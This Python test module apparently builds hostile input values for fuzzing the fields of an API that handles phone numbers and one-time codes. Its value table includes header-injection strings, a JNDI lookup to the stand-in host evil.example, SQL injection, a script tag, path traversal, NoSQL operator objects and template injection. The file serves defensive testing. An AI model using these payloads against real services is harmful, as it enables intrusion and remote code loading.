"""Hostile values of fields: what stands in a number, a code, an id, a word, a text, a whole number."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass

from tests.integration.hostile.wire import Carrier, Door, Raw, Role, Wire

INJECTED = "\r\nX-Injected: evil.example"
# Where digits and letters of other alphabets begin; some are what `str.isdigit` and `int` take for 0 to 9.
ARABIC, DEVANAGARI, WIDE, MATHEMATICAL = 0x660, 0x966, 0xFF10, 0x1D7CE
SUPERSCRIPT = "⁰¹²³⁴⁵⁶⁷⁸⁹"
WIDE_FROM_ASCII = 0xFEE0


def in_digits(text: str, zero: int) -> str:
    return "".join(chr(zero + int(c)) if c in "0123456789" else c for c in text)


def wide(text: str) -> str:
    """Full-width letters and digits."""
    return "".join(chr(ord(c) + WIDE_FROM_ASCII) if c.isascii() and c.isalnum() else c for c in text)


def superscript(text: str) -> str:
    return "".join(SUPERSCRIPT[int(c)] if c in "0123456789" else c for c in text)


def as_integer(text: str) -> int:
    return int("".join(c for c in text if c in "0123456789") or "7")


def inside(text: str) -> Callable[[str], str]:
    return lambda good: good[:2] + text + good[2:]


def behind(text: str) -> Callable[[str], str]:
    return lambda good: good + text


def before(text: str) -> Callable[[str], str]:
    return lambda good: text + good


def just(value: object) -> Callable[[str], object]:
    return lambda _: value


@dataclass(frozen=True)
class Bad:
    """What a good value becomes; `but` are the fields of operations that may take it."""

    make: Callable[[str], object]
    roles: frozenset[Role]
    but: frozenset[str] = frozenset()

    def wires(self, door: Door) -> list[tuple[Role, Wire]]:
        """The request of a door with each field that the value is for made bad in turn."""
        made = []
        for role in self.roles & door.fields.keys():
            for name in door.fields[role]:
                value = self.make(str(door.value(name)))
                if not {name, f"{door.name} {name}"} & self.but and _travels(value, door.carrier, name):
                    made.append((role, door.wire(name, value)))
        return made


def _travels(value: object, carrier: Carrier, name: str) -> bool:
    """What is no text travels in JSON alone."""
    return isinstance(value, str) or (carrier is Carrier.JSON and name != "{id}")


NUMBER, CODE, ID, WORD, TEXT, WHOLE = (
    frozenset({role}) for role in (Role.NUMBER, Role.CODE, Role.ID, Role.WORD, Role.TEXT, Role.WHOLE)
)
FIELDS = NUMBER | CODE | ID | WORD | TEXT | WHOLE
DIGITS = NUMBER | CODE | WHOLE
NAMES = NUMBER | CODE | ID | WORD | WHOLE

# Where these count as left out, and nothing needs to be there.
MAY_BE_NULL = frozenset({"TimeAlive", "NumCharOfCode", "IsNumber", "template.language"})
MAY_BE_EMPTY = frozenset({"TimeAlive", "NumCharOfCode", "IsNumber", "otpLength", "customerId", "scope"})

VALUES: Mapping[str, Bad] = {
    # in every field
    "a header behind a line break": Bad(behind(INJECTED), FIELDS),
    "a carriage return": Bad(inside("\r"), FIELDS),
    "a NUL behind it": Bad(behind("\0"), FIELDS),
    "a NUL inside": Bad(inside("\0"), FIELDS),
    "an escape sequence": Bad(behind("\x1b[2J"), FIELDS),
    "half a character": Bad(behind("\ud800"), FIELDS),
    "the other half": Bad(before("\udfff"), FIELDS),
    "5 000 characters": Bad(just("7" * 5_000), FIELDS),
    # in every field but free texts
    "a line feed": Bad(behind("\n"), NAMES),
    "a tab": Bad(inside("\t"), NAMES),
    "nothing": Bad(just(""), NAMES, but=MAY_BE_EMPTY),
    "a blank": Bad(just(" "), NAMES),
    "a blank before it": Bad(before(" "), NAMES, but=frozenset({"Phone"})),
    "a zero-width space": Bad(inside("\u200b"), NAMES),
    "a text that runs backwards": Bad(before("\u202e"), NAMES),
    "a byte order mark": Bad(before("\ufeff"), NAMES),
    "a combining accent": Bad(behind("\u0301"), NAMES),
    "full-width characters": Bad(wide, NAMES),
    "a parameter for a vendor": Bad(behind("&otpLength=8&key=x"), NAMES),
    "a fragment": Bad(behind("#otpLength=8&key=x"), NAMES),
    "a line break in percent signs": Bad(behind("%0d%0aX-Injected:1"), NAMES),
    "a template": Bad(just("{{code}}{{7*7}}"), NAMES),
    "an expression": Bad(just("${jndi:ldap://evil.example}"), NAMES),
    "a path": Bad(before("../../../"), NAMES),
    "SQL": Bad(behind("' OR '1'='1"), NAMES),
    "markup": Bad(behind("<script>evil.example</script>"), NAMES),
    "a key of the table": Bad(before("V#shop#"), NAMES),
    "a wildcard": Bad(behind(" *%_?"), NAMES),
    "a prototype": Bad(just("__proto__ constructor"), NAMES),
    # digits of others
    "Arabic-Indic digits": Bad(lambda good: in_digits(good, ARABIC), DIGITS),
    "Devanagari digits": Bad(lambda good: in_digits(good, DEVANAGARI), DIGITS),
    "full-width digits": Bad(lambda good: in_digits(good, WIDE), DIGITS),
    "mathematical digits": Bad(lambda good: in_digits(good, MATHEMATICAL), DIGITS),
    "superscript digits": Bad(superscript, DIGITS),
    "one digit of another alphabet": Bad(lambda good: good[:-1] + in_digits(good[-1], ARABIC), DIGITS),
    # what is no number
    "an extension": Bad(behind(";ext=1"), NUMBER),
    "an extension by x": Bad(behind("x12"), NUMBER),
    "an extension in words": Bad(behind(" ext. 12"), NUMBER),
    "a pause and more digits": Bad(behind(",,12"), NUMBER),
    "a number to dial on": Bad(behind("*67#"), NUMBER),
    "letters of a keypad": Bad(just("1-800-FLOWERS"), NUMBER),
    "a URI": Bad(before("tel:"), NUMBER),
    "two numbers": Bad(behind(",+84901888485"), NUMBER),
    "a number below zero": Bad(before("-"), NUMBER | WHOLE),
    "two signs": Bad(before("++"), NUMBER | WHOLE),
    "an exponent": Bad(behind("e10"), NUMBER | WHOLE),
    "hexadecimal digits": Bad(before("0x"), NUMBER | WHOLE),
    "an underscore": Bad(inside("_"), NUMBER),
    "a fraction": Bad(behind(".5"), WHOLE | ID),
    "zero": Bad(just("0"), NUMBER | WHOLE | ID, but=frozenset({"IsNumber"})),
    "negative zero": Bad(just("-0"), NUMBER | WHOLE | ID),
    "NaN": Bad(just("NaN"), NUMBER | WHOLE | ID),
    "Infinity": Bad(just("Infinity"), NUMBER | WHOLE | ID),
    "1e400": Bad(just("1e400"), NUMBER | WHOLE | ID),
    "a yes": Bad(just("true"), NUMBER | WHOLE | ID),
    "a null in letters": Bad(just("null"), NUMBER | WHOLE | ID),
    # what is no code
    "the code twice and a comma": Bad(lambda good: ",".join([good] * 3), CODE),
    "the code and a blank": Bad(behind(" "), CODE),
    "the code in groups": Bad(inside(" "), CODE),
    "the code with a letter of another alphabet": Bad(lambda good: good[:-1] + "О", CODE),
    # what is no id
    "an id and a slash": Bad(behind("/"), ID),
    "an encoded slash": Bad(behind("%2F.."), ID),
    "an encoded way up": Bad(before("%2e%2e%2f"), ID),
    "an id and a query": Bad(behind("?x=1"), ID),
    "an id and a matrix parameter": Bad(behind(";x=1"), ID),
    "an id twice": Bad(lambda good: f"{good},{good}", ID),
    "an id without its end": Bad(lambda good: good[:-1], ID),
    "an id with one character more": Bad(lambda good: good + good[-1], ID),
    "an id with a zero before it": Bad(before("0"), ID),
    # other types of JSON
    "an integer": Bad(as_integer, FIELDS - WHOLE),
    "a float": Bad(just(6.0), FIELDS),
    "a true": Bad(just(True), FIELDS),
    "a false": Bad(just(False), FIELDS),
    "a null": Bad(just(None), FIELDS, but=MAY_BE_NULL),
    "a list of it": Bad(lambda good: [good], FIELDS, but=frozenset({"engagelabCustomMessage to"})),
    "a list of two": Bad(lambda good: [good, good], FIELDS),
    "a list in a list": Bad(lambda good: [[good]], FIELDS),
    "an object": Bad(just({"$ne": None}), FIELDS),
    "an attribute of DynamoDB": Bad(lambda good: {"S": good}, FIELDS),
    "negative zero of JSON": Bad(just(Raw("-0")), FIELDS, but=frozenset({"IsNumber"})),
    "1e400 of JSON": Bad(just(Raw("1e400")), FIELDS),
    "4 000 nines of JSON": Bad(just(Raw("9" * 4_000)), FIELDS),
    "deep arrays": Bad(just(Raw("[" * 1_900 + "]" * 1_900)), FIELDS),
    "deep objects": Bad(just(Raw('{"a":' * 900 + "1" + "}" * 900)), FIELDS),
}  # fmt: skip
